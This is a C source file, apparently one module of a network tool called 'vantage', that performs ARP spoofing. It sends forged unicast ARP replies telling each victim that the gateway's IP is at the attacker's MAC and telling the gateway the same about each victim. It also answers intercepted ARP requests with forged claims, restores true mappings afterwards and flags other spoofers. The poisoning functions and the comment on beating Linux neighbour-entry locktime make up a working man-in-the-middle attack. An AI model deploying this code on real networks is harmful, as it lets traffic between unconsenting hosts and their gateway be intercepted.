/*
 * The spoofing itself, its undoing, and the watch for trouble.
 *
 * Poison: to each victim an ARP reply "the gateway's IP is at our MAC",
 * to the gateway "the victim's IP is at our MAC", unicast to each. Correct:
 * the same replies with the true MACs. Replies, not requests: Linux
 * updates an existing neighbour entry from a reply addressed to it once
 * the entry's locktime (1 s by default) has passed, so correcting rounds
 * 0.5 s apart over 2 s always land. Frames leave with our MAC as the
 * Ethernet source so switches never learn a victim's or the gateway's MAC
 * on our port.
 */
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <time.h>

#include "vantage/devrec.h"
#include "vantage/error.h"
#include "vantage/onpath.h"

/* A reply to `to` claiming that `ip` is at `mac`. */
static int claim(int fd, int ifindex, const vt_targets *t, const vt_host *to,
		 const uint8_t ip[4], const uint8_t mac[6])
{
	vt_arp_msg m;
	memset(&m, 0, sizeof(m));
	memcpy(m.eth_dst, to->mac, 6);
	memcpy(m.eth_src, t->self.mac, 6);
	m.op = 2;
	memcpy(m.sha, mac, 6);
	memcpy(m.spa, ip, 4);
	memcpy(m.tha, to->mac, 6);
	memcpy(m.tpa, to->ip, 4);
	return vt_arp_send(fd, ifindex, &m) == VT_OK;
}

int vt_onpath_poison(int fd, int ifindex, const vt_targets *t)
{
	int sent = 0;
	for (size_t i = 0; i < t->n; i++) {
		sent += claim(fd, ifindex, t, &t->v[i], t->gw.ip, t->self.mac);
		sent += claim(fd, ifindex, t, &t->gw, t->v[i].ip, t->self.mac);
	}
	return sent;
}

int vt_onpath_answer(int fd, int ifindex, const vt_targets *t,
		     const vt_arp_msg *m)
{
	if (m->op != 1)
		return 0;
	if (!memcmp(m->spa, t->gw.ip, 4) && !memcmp(m->sha, t->gw.mac, 6)) {
		for (size_t i = 0; i < t->n; i++)
			if (!memcmp(m->tpa, t->v[i].ip, 4))
				return claim(fd, ifindex, t, &t->gw, t->v[i].ip,
					     t->self.mac);
		return 0;
	}
	for (size_t i = 0; i < t->n; i++)
		if (!memcmp(m->spa, t->v[i].ip, 4) &&
		    !memcmp(m->sha, t->v[i].mac, 6) &&
		    !memcmp(m->tpa, t->gw.ip, 4))
			return claim(fd, ifindex, t, &t->v[i], t->gw.ip,
				     t->self.mac);
	return 0;
}

int vt_onpath_correct_round(int fd, int ifindex, const vt_targets *t)
{
	int sent = 0;
	for (size_t i = 0; i < t->n; i++) {
		sent += claim(fd, ifindex, t, &t->v[i], t->gw.ip, t->gw.mac);
		sent += claim(fd, ifindex, t, &t->gw, t->v[i].ip, t->v[i].mac);
	}
	return sent;
}

int vt_onpath_correct(int fd, int ifindex, const vt_targets *t)
{
	int sent = 0;
	for (int r = 0; r < VT_ONPATH_CORRECT_ROUNDS; r++) {
		if (r) {
			struct timespec ts = {0, VT_ONPATH_CORRECT_GAP_MS *
						     1000000L};
			while (nanosleep(&ts, &ts) != 0)
				;
		}
		sent += vt_onpath_correct_round(fd, ifindex, t);
	}
	return sent;
}

static void fmt_claim(const vt_arp_msg *m, const char *whose,
		      const uint8_t truth[6], const char *what, char *why)
{
	char ip[16], mac[18], tmac[18];
	inet_ntop(AF_INET, m->spa, ip, sizeof(ip));
	vt_mac_format(m->sha, mac);
	vt_mac_format(truth, tmac);
	snprintf(why, VT_ERRBUF_LEN,
		 "%s: an ARP %s says %s's address %s is at %s (true MAC %s)",
		 what, m->op == 2 ? "reply" : "frame", whose, ip, mac, tmac);
}

int vt_onpath_judge(const vt_targets *t, const vt_arp_msg *m, char *why)
{
	static const uint8_t zero[6];
	if (!memcmp(m->sha, t->self.mac, 6) || !memcmp(m->sha, zero, 6))
		return VT_ONPATH_QUIET;
	if (!memcmp(m->spa, t->gw.ip, 4) && memcmp(m->sha, t->gw.mac, 6)) {
		/* the gateway itself speaking from a new MAC changed it;
		 * anyone else claiming its address is a spoofer */
		int self_sent = !memcmp(m->eth_src, m->sha, 6);
		fmt_claim(m, "the gateway", t->gw.mac,
			  self_sent ? "the gateway's MAC changed, or another "
				      "host is spoofing it"
				    : "another host is spoofing the gateway",
			  why);
		return self_sent ? VT_ONPATH_GW_CHANGED : VT_ONPATH_SPOOFER;
	}
	for (size_t i = 0; i < t->n; i++)
		if (!memcmp(m->spa, t->v[i].ip, 4) &&
		    memcmp(m->sha, t->v[i].mac, 6)) {
			fmt_claim(m, "a victim", t->v[i].mac,
				  "another host is spoofing a victim", why);
			return VT_ONPATH_SPOOFER;
		}
	return VT_ONPATH_QUIET;
}
